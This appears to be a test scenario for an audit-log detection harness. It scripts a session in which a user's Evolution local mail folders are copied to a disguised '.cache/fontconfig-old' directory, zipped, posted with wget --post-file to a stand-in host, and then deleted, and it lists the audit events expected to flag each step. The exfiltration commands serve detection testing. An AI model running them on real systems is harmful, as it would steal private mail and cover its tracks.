# Another client's own folders, in another layout.
title="Folders that Evolution keeps on the computer packed by zip and uploaded with wget"
what="The buyer copies the inbox to the local folders of Evolution. In a session as buyer the folders that Evolution keeps below ~/.local/share/evolution/mail/local, a Maildir++ tree, are copied to ~/.cache/fontconfig-old, packed with zip, and the archive is posted by wget --post-file to 203.0.113.66. The copy is removed."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-wide.rules

act() {
  display_up
  letters buyer 8
  evolution_keep buyer
  small_talk 2
  ssh_as buyer <<'L'
mkdir -p .cache/fontconfig-old
cp -r .local/share/evolution/mail/local .cache/fontconfig-old
%sleep 2
cd .cache
zip -qr f.zip fontconfig-old
wget -q -O /dev/null --post-file=f.zip http://drop.example.net/up/f
rm -rf f.zip fontconfig-old
L
  small_talk 1
}
truth() {
  file_step read 'cp openat:read NORMAL .*evolution/mail/local' 'the folders are copied'
  exec_step pack 'zip -qr f.zip' 'and packed'
  exec_step transfer 'wget .*--post-file=f.zip' 'the archive is posted'
  net_step connect 'wget 203.0.113.66:80' 'to an address outside'
}
